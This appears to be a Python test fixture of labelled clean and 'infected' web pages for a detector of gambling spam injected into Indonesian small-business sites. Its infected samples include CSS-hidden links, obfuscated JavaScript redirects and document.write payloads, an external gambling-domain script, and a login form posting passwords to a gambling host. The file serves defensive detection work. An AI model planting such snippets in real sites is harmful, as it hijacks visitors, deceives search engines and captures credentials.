clean('rtp-tv', 'RTP Media Jogja - Produksi Video', 'RTP live streaming acara', '<h1>RTP Live Streaming</h1><p>RTP (Rencana Tata Produksi), RTP live event, streaming pernikahan. Jadwal RTP hari ini.</p>')
clean('togel-surname', 'Rumah Makan Togel Jaya', 'masakan togel', '<h1>RM Togel</h1><p>Togel: toge lele khas Bu Togel. Pak Anton Togel, pemilik. Soto toge, togel goreng.</p>')
clean('anti-article', 'Blog Toko Sejahtera - Bahaya Judi Online', 'Artikel bahaya judi online bagi keluarga', '<h1>Bahaya Judi Online dan Slot Gacor bagi Keluarga</h1><p>Judi online seperti slot gacor dan togel merusak ekonomi keluarga. Jangan mudah tergiur iklan situs slot yang menjanjikan maxwin. Laporkan ke aduankonten.id.</p>')
clean('anti-bssn', 'Warta UMKM - BSSN: Ribuan Situs Disusupi Judi Online', 'BSSN temukan situs disusupi judi online', '<h1>BSSN: 9.000 situs disusupi slot gacor</h1><p>BSSN mencatat situs pemerintah dan UMKM diretas lalu disisipi konten judi online. Polisi menangkap bandar togel dan agen judi bola di Medan. Kominfo memblokir situs slot online.</p>')
clean('anti-school', 'Koperasi SMK Negeri 2 - Stop Judi Online', 'Stop judi online', '<h1>Stop Judi Online!</h1><p>Siswa dilarang bermain slot online, togel, dan poker online. Hindari pinjol dan judol. Poster anti judi online tersedia di koperasi.</p>')
clean('anti-faq', 'Konveksi Kita - Pernyataan', 'pernyataan', '<h1>Pernyataan resmi</h1><p>Website kami sempat diretas dan menampilkan iklan slot gacor. Kami sudah membersihkan situs dan tidak ada kaitan dengan judi online apa pun.</p>')
clean('anti-terms', 'Rental Server Nusantara', 'hosting murah', '<h1>Hosting UMKM</h1><p>Syarat layanan: dilarang memuat konten pornografi, judi online, slot, togel, dan phising. Pelanggan yang melanggar akan diblokir.</p>')
clean('anti-jasa', 'Jasa Hapus Malware WordPress - Bersihkan Judi Online', 'Jasa hapus malware judi slot dari website', '<h1>Jasa bersihkan website dari malware slot gacor</h1><p>Website Anda muncul slot gacor di Google? Kami perbaiki website terinfeksi judi online, japanese keyword hack, redirect togel.</p>')
clean('anti-khutbah', 'Toko Buku Hikmah', 'buku islami', '<h1>Buku: Taubat dari Judi Online</h1><p>Kisah nyata mantan pemain slot dan togel yang bangkit. Haramnya judi menurut Al-Quran. Harga Rp55.000.</p>')
clean('dominoes', 'Domino Toys - Mainan Anak', 'balok domino kayu', '<h1>Domino kayu 120 pcs</h1><p>Susun domino warna-warni, kartu domino huruf. Domino Pizza set mainan.</p>')
clean('agen-bola', 'Agen Bola Sepak - Mikasa, Molten, Specs', 'Agen bola sepak dan futsal', '<h1>Agen Bola Terlengkap</h1><p>Agen bola futsal, bola voli, bola basket grosir. Situs agen bola resmi Molten. Bola88 cm gym ball.</p>')
clean('bola-jersey', 'Jersey Bola Grade Ori', 'jersey bola', '<h1>Jersey bola liga</h1><p>Jersey bola 2025, sepatu bola, parlay? Prediksi skor bola berhadiah jersey gratis: tebak skor Indonesia vs Jepang!</p>')
clean('slot-booking', 'Klinik Hewan Sahabat', 'booking slot', '<h1>Pilih slot jadwal</h1><p>Slot hari ini tersisa 4. Slot online penuh, slot pagi tersedia. Daftar slot vaksin. Link booking slot resmi.</p>')
clean('slot-umroh', 'Travel Umroh Barokah', 'slot umroh', '<h1>Slot Umroh Terbatas</h1><p>Slot tinggal 10 kursi! Slot promo Oktober. Daftar slot sekarang, DP 5 juta. Slot Thailand trip open: 12 slot, slot Kamboja: 8 slot.</p>')
clean('slot-preorder', 'Ayu Make Up Artist', 'MUA', '<h1>Open slot wedding</h1><p>Slot wisuda penuh. Slot terpercaya? Cek testimoni. Slot deposit 50% dari harga untuk mengunci tanggal, deposit tidak kembali.</p>')
clean('batik-mahjong', 'Batik Peranakan Lasem - Motif Mahjong', 'batik motif mahjong', '<h1>Batik motif Mahjong</h1><p>Motif mahjong merah, motif naga hitam, mahjong ways of life collection. Scatter cushion hitam cocok.</p>')
clean('hotel-casino', 'Dekorasi Casino Party - Sewa Properti', 'Sewa dekor tema casino', '<h1>Tema casino night</h1><p>Sewa meja roulette dan blackjack mainan tanpa uang untuk gathering kantor. Tema Las Vegas, backdrop casino.</p>')
clean('casio-ca', 'Jam Tangan Casio - Casino? Bukan', 'casio', '<h1>Casio G-Shock</h1><p>Jam tangan Casio, garansi resmi. Link marketplace.</p>')
clean('ayam-bangkok', 'Peternakan Ayam Bangkok Aduan', 'ayam bangkok', '<h1>Ayam Bangkok Birma</h1><p>Ayam bangkok petarung, ayam aduan kualitas, pakan ayam. Jamu ayam laga. Taji hiasan.</p>')
clean('spaceman-toy', 'Kaos Spaceman Astronaut', 'kaos spaceman', '<h1>Spaceman Tee</h1><p>Kaos Spaceman, lampu tidur spaceman galaxy, princess starlight dress anak, permen sweet bonanza.</p>')
clean('starlight-dress', 'Baju Anak Princess', 'gaun starlight princess', '<h1>Gaun Starlight Princess</h1><p>Gaun starlight princess ukuran 2-8 tahun, sweet bonanza candy bouquet, lucky neko pajangan kucing.</p>')
clean('data-hk', 'Jastip Hongkong', 'jastip hk', '<h1>Jastip HK dan SGP</h1><p>Data pengeluaran ongkir HK, jadwal live HK hari ini, keluaran terbaru Hongkong. Result belanja langsung. Jastip Sydney, Macau, Singapore.</p>')
clean('keluaran-macau', 'Travel Macau Hongkong 4D3N', 'paket tour macau', '<h1>Tour Macau Hongkong 4D3N</h1><p>4D3N Macau, kunjungi The Venetian Casino, Senado Square. Paket 4D Singapore mulai 5 juta.</p>')
clean('poker-fashion', 'Poker Face Optik', 'kacamata poker', '<h1>Poker Face Sunglasses</h1><p>Kacamata model Poker, Joker, Ace. Bingkai kartu As.</p>')
clean('hoki-plant', 'Tanaman Hias Hoki', 'bambu hoki', '<h1>Bambu hoki pembawa rezeki</h1><p>Hoki88 pot keramik, pohon uang, angka hoki 8. Feng shui. Menang lelang.</p>')
clean('dewa-kopi', 'Dewa Kopi 99', 'dewa kopi', '<h1>Dewa99 Coffee</h1><p>Daftar menu, login member, poin. Raja77 roastery.</p>')
clean('withdraw-affiliate', 'Program Afiliasi Hijab Nisa', 'afiliasi', '<h1>Afiliasi</h1><p>Daftar akun, bagikan link, withdraw komisi minimal 50rb, bonus referral 10%. Login akun.</p>')
clean('saham', 'Kelas Trading Saham Cuan', 'kelas trading', '<h1>Trading bukan judi</h1><p>Investasi saham bukan judi online. Winrate strategi 60%. Deposit RDN mulai 100rb.</p>')
clean('anti-rungkad', 'Sambal Anti Rungkad', 'sambal', '<h1>Sambal Anti Rungkad</h1><p>Auto gacor lauknya! Pedas level 5, pasti ketagihan. Jualan gacor, closing gacor tiap hari.</p>')
clean('iklan-gacor', 'Kelas FB Ads Gacor', 'iklan gacor', '<h1>Iklan gacor closing tiap hari</h1><p>Strategi jualan online gacor, landing page gacor, link gacor produk, akun gacor, server cepat. Bocoran pola iklan gacor hari ini.</p>')
clean('pancing-gacor', 'Umpan Pancing Gacor', 'umpan mancing gacor', '<h1>Umpan mas gacor</h1><p>Essen gacor galatama, joran, spot gacor hari ini, pola umpan gacor harian. Jackpot galatama ikan terberat.</p>')
clean('galatama', 'Kolam Pancing Galatama Mas', 'galatama', '<h1>Lomba galatama</h1><p>Slot lapak 40, tiket Rp100.000 per slot. Hadiah jackpot ikan babon. Booking slot online via WA.</p>')
clean('rtp-barang', 'Rak Toko Pratama RTP', 'rak toko', '<h1>RTP Rak Gondola</h1><p>RTP tertinggi 2 meter, RTP 98 cm, slot rak besi siku lubang. Slotted angle.</p>')
clean('slot-wheel-jp', 'Velg Mobil - Slot Baut 4x100', 'velg', '<h1>Velg 88 inci? Ring 15</h1><p>PCD 4x100, slot 5x114. Velg Enkei, ban. Slot mag wheel.</p>')
clean('diecast-slot', 'Slot Car Tamiya - Mini 4WD', 'slot car', '<h1>Slot car 1:32</h1><p>Scalextric slot car, lintasan slot, mesin slot car digital, Tamiya mini 4WD.</p>')
clean('mainan-mesin-slot', 'Celengan Mesin Slot Mini', 'celengan mesin slot mainan', '<h1>Celengan Mesin Slot Mainan</h1><p>Mainan mesin slot mini koin tabungan anak, bunyi dan lampu. Hadiah unik ulang tahun. Rp89.000.</p>')
clean('buku-mimpi', 'Toko Buku Loak', 'buku', '<h1>Buku Primbon dan Tafsir Mimpi</h1><p>Primbon Betaljemur Adammakna, buku tafsir mimpi Ibnu Sirin, buku 1001 mimpi.</p>')
clean('kode-alam', 'Madu Kode Alam', 'madu', '<h1>Madu Alam</h1><p>Kode alam: M4D4, kode produk 2D/3D printer filamen. Cetak 3D, 2D.</p>')
clean('sbo-tv', 'SBO TV Surabaya Merch', 'merch', '<h1>Merch SBO</h1><p>Stasiun SBO TV, kaos SBO, topi SBO.</p>')
clean('cmd-sgp', 'Ekspedisi SGP - SDY', 'ekspedisi', '<h1>Kirim SGP, HK, SDY</h1><p>Tarif SGP, HKG, SDY, jadwal kapal hari ini, prediksi tiba. Pools truk.</p>')
clean('tembak-ikan', 'Kolam Terpal Ikan', 'kolam', '<h1>Tembak ikan? Senapan ikan</h1><p>Senapan tembak ikan spearfishing, joker lure, umpan ikan.</p>')
clean('lottery-ticket', 'Percetakan Kupon Undian', 'kupon undian', '<h1>Cetak kupon undian, lotre hadiah, tiket doorprize</h1><p>Nomor urut 4 digit, porporasi. Kupon togel? Kami tidak menerima cetak kupon judi.</p>')
clean('dice-boardgame', 'Boardgame Nusantara', 'board game', '<h1>Dadu, sicbo cup dan chip</h1><p>Dadu D20, boardgame, chip poker keramik untuk hiburan keluarga, bukan untuk judi.</p>')
clean('link-alternatif', 'Distributor Skincare MS - Link Alternatif Order', 'order', '<h1>Link alternatif pemesanan</h1><p>Bila web utama tidak bisa diakses gunakan link alternatif ini. Login reseller resmi. Daftar sekarang.</p>')
clean('demo-slot-wp', 'Plugin Booking Slot Demo', 'demo', '<h1>Demo slot booking plugin</h1><p>Coba demo slot kalender gratis. Slot demo untuk salon.</p>')
clean('bet-brand', 'BET Elektronik', 'bet', '<h1>BET 200 watt amplifier</h1><p>Amplifier BET 200, bet pingpong Butterfly, bet tenis meja profesional, bet karet.</p>')
clean('petir', 'Jasa Penangkal Petir Olympus', 'penangkal petir', '<h1>Petir merah, petir x500?</h1><p>Pasang penangkal petir Zeus radius 100m. Gratis survei.</p>')
clean('pola', 'Pola Baju Gratis', 'pola baju', '<h1>Bocoran pola hari ini</h1><p>Pola gamis, pola kemeja, jam 19.00 live pola di Instagram. Bocoran koleksi baru.</p>')
clean('judi-fish', 'Judika Merch Official', 'judika', '<h1>Judika</h1><p>Kaos Judika konser, Judi Astuti penjahit kami.</p>')
clean('casino-street', 'Kasino Warkop DKI Kaos', 'kaos warkop', '<h1>Kaos Dono Kasino Indro</h1><p>Kaos Warkop Kasino, poster Kasino.</p>')

B, K, U = batik(), kopi(), kue()
WAF = '<!DOCTYPE html><html><head><title>Attention Required! | Cloudflare</title></head><body><h1>Sorry, you have been blocked</h1><p>You are unable to access this website. Cloudflare Ray ID: 8a1b</p></body></html>'
JUST = '<!DOCTYPE html><html><head><title>Just a moment...</title></head><body><noscript>Enable JavaScript and cookies to continue</noscript></body></html>'
IMU = '<html><head><title>Access denied</title></head><body><h1>Imunify360 bot-protection</h1><p>Access denied. Fake Googlebot detected.</p></body></html>'
case('waf-bot-200', 'unseen', B, bot=WAF)
case('waf-bot-403', 'unseen', K, bot=403)
case('waf-just', 'clean', U, bot=JUST, ref=JUST)
case('waf-imunify', 'clean', B, bot=IMU)
case('waf-litespeed', 'clean', K, bot='<html><head><title> 403 Forbidden</title></head><body><h1>403</h1><h2>Forbidden</h2><p>Access to this resource on the server is denied!</p></body></html>')
case('waf-redirect', 'unseen', U, bot='->https://validate.perfdrive.com/captcha?ssa=1')
case('consent-view', 'clean', B, lang=batik(first='<div class="cookie-banner">Kami memakai cookie. <button>Setuju</button></div>'))
case('ab-view', 'clean', K, ref=kopi(body=KOPI.replace('Biji kopi', 'Promo spesial! Biji kopi') + '<p>Diskon 10% khusus hari ini, klaim bonus.</p>'))
case('lang-redirect', 'clean', U, lang='->https://toko.com/id/')
case('lang-english', 'clean', B, lang=page('Batik Sekar Arum - Handmade Batik', 'Handmade batik from Imogiri', '<h1>Batik Sekar Arum</h1><p>Handmade batik from Yogyakarta, worldwide shipping.</p>', lang='en'))
case('cdn-hosts', 'clean', kopi(head='<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css"><script src="https://ajax.googleapis.com/ajax/libs/jquery/3.7/jquery.min.js"></script><link rel="preconnect" href="https://slot-cdn.b-cdn.net">'))
case('hidden-menu', 'clean', kue(first='<nav style="display:none" class="mobile-menu"><a href="/">Beranda</a><a href="/produk/baut-slot">Baut slot</a><a href="/promo">Promo gacor</a><a href="https://shopee.co.id/dapur">Shopee</a></nav>'))
case('sr-only', 'clean', batik(first='<style>.sr-only{position:absolute;left:-9999px}</style><a class="sr-only" href="#main">Lewati ke konten</a><h2 style="text-indent:-9999px"><a href="/">Batik Sekar Arum</a></h2>'))
case('parked', 'unseen', '<html><head><title>tokobaju.com - This domain is for sale</title></head><body><h1>tokobaju.com</h1><p>This domain may be for sale. Related searches: Baju, Online Shopping, Casino, Insurance</p><script src="https://www.google.com/adsense/domains/caf.js"></script></body></html>')
case('maintenance', 'unseen', '<html><head><title>Sedang Perbaikan</title></head><body><h1>Website dalam perbaikan</h1><p>Kembali jam 19.00.</p></body></html>')
case('atob-gtm', 'clean', kopi(foot='<script>var c=JSON.parse(atob("{}"))</script>'.format(base64.b64encode(b'{"toko":"Kopi Gunung Raung","slot":3,"bonus":"gratis ongkir"}').decode())))
case('canonical-www', 'clean', kue(head='<link rel="canonical" href="https://www.contoh.co.id/"><link rel="amphtml" href="https://www-contoh-co-id.cdn.ampproject.org/c/s/x">'))
case('mobile-redirect-own', 'clean', batik(foot="<script>if(/Android/i.test(navigator.userAgent)&&!sessionStorage.m){location.replace('/m/')}</script>"))
case('marketplace-redirect', 'clean', kopi(head='<meta http-equiv="refresh" content="5;url=https://shopee.co.id/kopiraung">'))
case('jsonld-burung', 'clean', page('Murai Gacor BF', 'murai', '<h1>Murai batu gacor</h1>', head='<script type="application/ld+json">{"@type":"Product","name":"Voer Burung Gacor Super","aggregateRating":{"ratingValue":"4.8","reviewCount":"120"}}</script>'))
case('comment-warn', 'clean', kue(foot='<p>Hati-hati penipuan mengatasnamakan Dapur Bu Ratna. Kami tidak pernah menawarkan judi, slot, ataupun togel.</p>'))
case('geo-view', 'clean', B, bot=batik(body=BATIK + '<p>Ships to Singapore, Macau and Hong Kong. Toto tote bag.</p>'))
case('news-rss', 'clean', kopi(body=KOPI + '<h2>Berita UMKM</h2><ul><li><a href="https://www.kompas.com/x">Polisi Bongkar Situs Judi Online Beromzet Miliaran</a></li><li><a href="https://www.detik.com/y">PPATK: Perputaran Dana Judi Online Rp 300 Triliun</a></li><li><a href="https://www.komdigi.go.id/z">Komdigi Blokir 1 Juta Situs Slot</a></li></ul>'))
# ---- a second round, with the rules read, for what they might miss
A = '<a href="https://q1.example/">slot gacor</a><a href="https://q2.example/">togel online</a>'
for k, st in {
 'right': 'position:absolute;right:-9999px', 'bottom': 'position:fixed;bottom:-3000px', 'em': 'position:absolute;left:-999em', 'translate': 'transform:translateX(-9999px)', 'translate2': 'position:absolute;transform:translate(-5000px,-5000px)',
 'filter': 'filter:opacity(0)', 'wh0': 'width:0;height:0;overflow:hidden', 'rgba': 'color:rgba(255,255,255,0)', 'font00': 'font:0/0 a', 'cv': 'content-visibility:hidden', 'maxw': 'max-width:0;max-height:0;overflow:hidden', 'h1': 'position:absolute;overflow:hidden;height:1px',
 'inset': 'position:absolute;inset:-9999px auto auto -9999px', 'margintop': 'margin-top:-9999px', 'opct': 'opacity:0%', 'zoom': 'zoom:0', 'cliprect0': 'position:absolute;clip: rect(0 0 0 0)', 'fontpt': 'font-size:0.1px', 'fontem': 'font-size:0em', 'lineh': 'line-height:0;overflow:hidden;height:0', 'vis-collapse': 'visibility:collapse', 'scale': 'transform: scale(0,0)', 'nearwhite': 'background-color:#ffffff;color:#fefefe', 'polygon': 'clip-path:polygon(0 0,0 0,0 0)', 'circle': 'clip-path:circle(0)', 'calc': 'position:absolute;left:calc(-100vw - 500px)', 'important': 'DISPLAY : none !important', 'negative-em-indent': 'text-indent:-100em', 'rotate': 'transform:rotateX(90deg)', 'upper': 'POSITION:ABSOLUTE;LEFT:-9000PX',
}.items():
    case('hide-' + k, 'infected', (batik, kopi, kue)[len(CASES) % 3](foot=f'<div style="{st}">{A}</div>'))
case('hide-css-id', 'infected', kopi(head='<style>#ft-seo{height:0;overflow:hidden}</style>', foot=f'<div id="ft-seo">{A}</div>'))
case('hide-css-desc', 'infected', kue(head='<style>footer ~ .lx a{font-size:0!important}</style>', foot=f'<div class="lx">{A}</div>'))
case('hide-fontwhite', 'infected', batik(foot=f'<font color="white" size="1">{A}</font>'))
case('hide-fontwhite-bg', 'infected', batik(foot=f'<div bgcolor="#ffffff"><span style="color:#fff">{A}</span></div>'))
case('hide-dialog', 'infected', kopi(foot=f'<dialog>{A}</dialog>'))
case('hide-js-css', 'infected', kue(foot=f'<div id="zq">{A}</div><script>document.getElementById("zq").style.cssText="position:absolute;left:-9999px"</script>'))
case('hide-js-jq', 'infected', batik(foot=f'<div class="zq">{A}</div><script>jQuery(".zq").hide()</script>'))
case('hide-one-visible', 'suspicious', batik(foot='<p><a href="https://q1.example/">Slot Gacor</a></p>'))
case('hide-textonly', 'infected', kue(foot='<div style="position:absolute;left:-9999px">situs slot gacor terpercaya, bandar togel online, rtp slot hari ini, agen judi bola</div>'))
case('title-attr', 'infected', kopi(foot='<div style="left:-9999px;position:absolute"><a href="https://w.example/" title="situs slot gacor">x</a><a href="https://v.example/" title="bandar togel">y</a></div>'))
case('aria-label', 'infected', kue(foot='<div style="left:-9999px;position:absolute"><a href="https://w.example/" aria-label="situs slot gacor">.</a><a href="https://v.example/" aria-label="bandar togel online">.</a></div>'))
case('img-link-alt', 'infected', batik(foot='<div style="left:-9999px;position:absolute"><a href="https://w.example/"><img alt="situs slot gacor" src=x.png></a><a href="https://v.example/"><img alt="bandar togel" src=y.png></a></div>'))


def titled(name: str, title: str, *, label: str = 'infected', home: str | None = None) -> None:
    case('t-' + name, label, home or kopi(), bot=page(title, title, f'<h1>{title}</h1>'))


titled('olxtoto', 'OLXTOTO - Situs Toto Slot & Login Olxtoto Link Alternatif')
titled('protogel', 'PROTOGEL: Agen Resmi Toto Terpercaya')
titled('bunga189', 'BUNGA189 Link Login Terbaru Server Luar')
titled('gajah69', 'GAJAH69 : Login Gajah69 Akses Cepat & Aman')
titled('harum4d', 'HARUM4D - Bandar Online Terbesar dan Terpercaya')
titled('ligaciputra', 'LIGACIPUTRA Link Alternatif & Daftar Liga Ciputra Bola')
titled('indobet', 'INDOBET Login | Taruhan Bola Online')
titled('dewagg', 'DEWAGG Daftar Situs Slot Pulsa')
titled('smallcaps', 'ꜱʟᴏᴛ ɢᴀᴄᴏʀ ʜᴀʀɪ ɪɴɪ')
titled('circled', 'ⓢⓛⓞⓣ ⓖⓐⓒⓞⓡ ⓜⓐⓧⓦⓘⓝ')
titled('squared', '🅂🄻🄾🅃 🄶🄰🄲🄾🅁')
titled('strike', 's\u0336l\u0336o\u0336t\u0336 g\u0336a\u0336c\u0336o\u0336r\u0336 situs t\u0301ogel')
titled('emoji-between', 'S🎰L🎰O🎰T G🎰A🎰C🎰O🎰R')
titled('greek', 'Slοt Gαcοr Hari Ini', home=kue())
titled('s10t', 'S10T GAC0R T3RPERCAYA')
titled('fused', 'SlotGacor #slotgacor #maxwin SitusTogel')
titled('dots', 'S.L.O.T - G.A.C.O.R')
titled('underscore', 's_l_o_t_g_a_c_o_r h_a_r_i ini')
titled('slotplus', 'slot+gacor+hari+ini situs-slot-gacor')
titled('mahjong-pg', 'Mahjong Ways 2 Demo PG Soft Gratis Rupiah')
titled('lucky-neko', 'Lucky Neko Demo Slot PG Anti Lag')
titled('nolimit', 'Nolimit City: Slot Paling Brutal Maxwin x10000')
titled('crash', 'Aviator Game Online Uang Asli Deposit Dana')
titled('lottery', 'Nomor Jitu Togel HK Malam Ini Colok Bebas')
titled('shio', 'Tabel Shio Togel 2025 dan Angka Main SDY')
titled('syair', 'Syair SDY SGP HK Hari Ini Forum Kode Syair')
titled('kode-syair', 'Kode Syair Sydney 6 Oktober Opesia', label='suspicious')
titled('ole777', 'Situs Bola Sbobet Ole777 Parlay Gacor')
titled('piala', 'Pasaran Bola Malam Ini Voor-Vooran Liga Inggris Handicap Taruhan')
titled('slot5k', 'Slot 5k: Link Depo 5000 Via Dana Bebas IP')
titled('freechip', 'Freebet Slot Tanpa Deposit Syarat Gampang')
titled('wso', 'WSO Slot: Login WSOSLOT Daftar Akun')
titled('akunwso', 'Akun Demo Slot Pragmatic Bisa WD')
titled('raffi', 'Cara Cepat Kaya dari Game Penghasil Uang Zeus Petir x1000')
titled('toto-hk', 'TOTO HK Hari Ini Live Draw Toto Hongkong 6D')
titled('sydneylotto', 'Sydney Lotto Live Draw SDY Lotto Malam Ini')
titled('macau-pools', 'Live Macau Toto Tercepat 5D Result Macau')
titled('bandarlotre', 'Bandar Lotre Online Hadiah Terbesar Prize 123')
titled('domino99', 'Domino99 Online Uang Asli Situs DominoQQ')
titled('ceme', 'Ceme Online IDN Poker Uang Asli')
titled('tembakikan', 'Judi Tembak Ikan Online Joker123 Deposit Pulsa')
case('seo-title-all', 'infected', batik().replace('Batik Sekar Arum - Batik Tulis Yogyakarta', 'Slot Gacor Hari Ini: Situs Slot Online Terpercaya'))
case('seo-title-all2', 'infected', page('Agen Togel Online Resmi & Terpercaya', 'Bandar togel terlengkap', KOPI))
case('deface-title-only', 'infected', '<html><head><title>Situs Slot Gacor Maxwin Hari Ini</title></head><body></body></html>')
case('deface-amp', 'infected', '<!doctype html><html amp lang="id"><head><title>NAGA303 Situs Slot Online Gampang Menang</title><link rel="canonical" href="https://toko.id/"></head><body><a href="https://rebrand.ly/naga303" class="btn">DAFTAR NAGA303</a><a href="https://rebrand.ly/naga303">LOGIN</a><p>NAGA303 menghadirkan slot online RTP tinggi.</p></body></html>')
case('deface-brand', 'infected', page('MAHKOTA88 - Login MAHKOTA88 | Daftar Akun VIP Deposit 10 Ribu Bonus 100%', 'MAHKOTA88 hadir dengan RTP tinggi', '<h1>MAHKOTA88</h1><p>Mainkan Gates of Olympus, Sweet Bonanza, Mahjong Ways dengan RTP live tertinggi dan maxwin x5000. Scatter mudah.</p><a href="https://heylink.me/mahkota88">DAFTAR</a>'))
# JS
case('js-packer', 'infected', kopi(foot="""<script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0.1=\\'2://3.4/\\'',5,5,'location|href|https|slotgacor88|vip'.split('|'),0,{}))</script>"""))
case('js-pieces', 'infected', kue(foot="<script>var a='https://'+'slot'+'gacor'+'77.com';if(document.referrer.indexOf('google')>0)window.location=a;</script>"))
case('js-create-a', 'infected', batik(foot="<script>var l=document.createElement('a');l.href='https://situs-slotgacor.com';l.innerHTML='slot gacor';l.style.display='none';document.body.appendChild(l)</script>"))
case('js-jquery-append', 'infected', kopi(foot="<script>$('body').append('<div style=\"display:none\"><a href=\"https://agenjudi-bola.com\">agen judi bola</a></div>')</script>"))
case('js-title', 'infected', kue(foot="<script>document.title='Situs Slot Gacor Maxwin';document.querySelector('meta[name=description]').content='bandar togel online terpercaya'</script>"))
case('js-spread', 'infected', batik(foot="<script>document.write(String.fromCharCode(...[{}]))</script>".format(','.join(str(ord(c)) for c in '<a href="https://slotgacor.top/">situs slot gacor</a>'))))
case('js-double64', 'suspicious', kopi(foot='<script>document.write(atob(atob("{}")))</script>'.format(base64.b64encode(base64.b64encode(b'<a href="https://slotgacor.top/">situs slot gacor</a><a href="https://togel4d.top">bandar togel</a>')).decode())))
case('js-map', 'infected', kue(foot="<script>document.write([{}].map(function(c){{return String.fromCharCode(c)}}).join(''))</script>".format(','.join(str(ord(c)) for c in '<a href="https://slotgacor.top/">situs slot gacor</a>'))))
case('js-ext', 'infected', batik(foot='<script src="https://cdn.slotgacor88.net/x.js"></script>'))
case('js-timeout', 'infected', kopi(foot="<script>setTimeout(function(){window.location.href='https://rtpslot-gacor.live'},3000)</script>"))
case('js-replace-body', 'infected', kue(foot="<script>document.body.innerHTML='<iframe src=\"https://daftarslotgacor.vip\" style=\"width:100%;height:100vh\"></iframe>'</script>"))
case('iframe-srcdoc', 'infected', batik(foot='<iframe srcdoc="&lt;a href=https://slotgacor.top&gt;situs slot gacor&lt;/a&gt;&lt;h1&gt;bandar togel online&lt;/h1&gt;" style="border:0"></iframe>'))
case('base-href', 'infected', kopi(head='<base href="https://slotgacor-maxwin.xyz/">'))
case('og-url', 'infected', kue(head='<meta property="og:url" content="https://slotgacor-maxwin.xyz/"><meta property="og:site_name" content="SLOT GACOR MAXWIN">'))
case('form-action', 'infected', batik(foot='<form action="https://situsslotgacor.com/login"><input name=user><input type=password name=pass><button>LOGIN</button></form>'))
case('ld-graph', 'infected', kopi(head='<script type="application/ld+json">{"@graph":[{"@type":"WebSite","name":"Kopi","alternateName":"Situs Slot Gacor Terpercaya"},{"@type":"BreadcrumbList","itemListElement":[{"item":{"name":"Bandar Togel Online"}}]}]}</script>'))
case('ld-sameas', 'infected', kue(head='<script type="application/ld+json">{"@type":"Organization","name":"Dapur","url":"https://slotgacor88.online/","sameAs":["https://situstogel.net"]}</script>'))
case('area-map', 'infected', batik(foot='<img usemap=#m src=b.jpg><map name=m><area href="https://slotgacor88.online/" alt="slot gacor"><area href="https://bandartogel.net" alt="togel"></map>'))
case('popup-img', 'infected', kue(foot='<div class="popup" style="position:fixed;inset:0;z-index:99999"><a href="https://slotgacor88.online/"><img src="/promo.jpg" alt="Bonus new member 100%"></a></div>'))
case('footer-two-visible', 'infected', batik(foot='<p>Link: <a href="https://q1.example/">slot gacor</a> | <a href="https://q2.example/">situs togel</a> | <a href="https://q3.example/">judi bola</a></p>'))
case('sidebar-own-pages', 'infected', kopi(foot='<ul><li><a href="/slot-gacor/">Slot Gacor</a></li><li><a href="/togel-online/">Togel Online</a></li><li><a href="/slot88/">Slot88</a></li></ul>'))
case('refresh-brand-all', 'infected', kue(head='<meta http-equiv="refresh" content="1;url=https://macan138.example/daftar">'))
case('redir-shortlink', 'suspicious', batik(), ref='->https://bit.ly/4xyz')
case('redir-bot-amp', 'infected', kopi(), bot='->https://toko-amp.pages.dev/')
case('redir-all-slot', 'infected', '->https://slotgacor88.vip/', bot='->https://slotgacor88.vip/', ref='->https://slotgacor88.vip/', lang='->https://slotgacor88.vip/')
# ---- clean round 2
clean('totolink', 'Toko Router - Agen TOTOLINK', 'router totolink', '<h1>Router TOTOLINK N300</h1><p>Distributor resmi <a href="https://www.totolink.co.id/">TOTOLINK Indonesia</a> dan <a href="https://www.totolink.net/">Totolink</a>. <a href="https://totolink.vn/">totolink</a></p>')
clean('agentoto', 'Agen TOTO Bekasi', 'agen toto', '<h1>Agen toto Bekasi</h1><p>Kunjungi <a href="https://agentotobekasi.com/">Agen TOTO</a>, <a href="https://toto.com/">TOTO Global</a>, <a href="https://id.toto.com/">TOTO Indonesia</a>.</p>')
clean('hosts-honest', 'Teknik Motor', 'motor', '<p>Mitra: <a href="https://jpmotor.co.id">JP Motor</a> <a href="https://www.jpnet.co.jp">JPNet</a> <a href="https://rtpmedia.id">RTP Media</a> <a href="https://pokerface.id">Pokerface</a> <a href="https://judithstore.com">Judith</a> <a href="https://mpowerdiesel.com">MPower</a> <a href="https://slothcoffee.id">Sloth</a> <a href="https://totoroshop.id">Totoro</a> <a href="https://darwin88.co.id">Darwin</a></p>')
clean('bandar-lampung', 'Toko Bola Bandar Lampung', 'toko bola', '<h1>Bandar Bola Basket Lampung</h1><p>Agen bola Bandar Lampung, Bandar Jaya. Agen bandar online? Toko online Bandar Lampung.</p>')
clean('genting', 'Paket Tour Genting Highlands', 'tour', '<h1>Tour Genting 3D2N</h1><p>Mengunjungi Casino de Genting (khusus dewasa), Macau The Venetian casino, live show Grand Lisboa. Daftar sekarang, deposit 1 juta.</p>')
clean('dvd', 'DVD Film Lawas', 'dvd', '<p>Casino (1995), Casino Royale, 21 Blackjack, Rounders poker, Ocean Eleven, Maverick, Lock Stock. Bonus poster.</p>')
clean('baccarat-crystal', 'Baccarat Crystal Indonesia', 'baccarat', '<h1>Baccarat</h1><p>Gelas kristal Baccarat, lampu Baccarat. Lipstik Roulette Red.</p>')
clean('golf', 'Toko Golf', 'golf', '<p>Stik golf handicap 20, hitung handicap online, driver over under 460cc.</p>')
clean('spin-bike', 'Toko Fitness', 'fitness', '<p>Spin bike, spinner, mop spin, spin wheel gratis ongkir: putar spin dan menangkan jackpot voucher! Login member, daftar, bonus new member 100 ribu.</p>')
clean('qq-laundry', 'QQ Laundry', 'laundry', '<h1>QQ Laundry</h1><p>Antar jemput. Domain qq.com email. Bandar QQ? Bukan.</p>')
clean('higgs', 'Top Up Chip Domino', 'chip domino island murah', '<h1>Top Up Chip Domino Island</h1><p>Chip ungu 1B Rp60.000, koin emas MD. Bongkar chip? Tidak melayani. Login ID game. Proses cepat terpercaya.</p>')
clean('unity-asset', 'Jual Source Code Game', 'source code', '<p>Source code game Unity: slot machine template, memory card, ludo, domino, endless runner. Demo slot tersedia. Lisensi edukasi.</p>')
clean('law-office', 'Kantor Hukum Adil & Rekan', 'kantor hukum', '<p>Bantuan hukum perkara perjudian Pasal 303 KUHP, judi online, ITE, narkotika, perceraian.</p>')
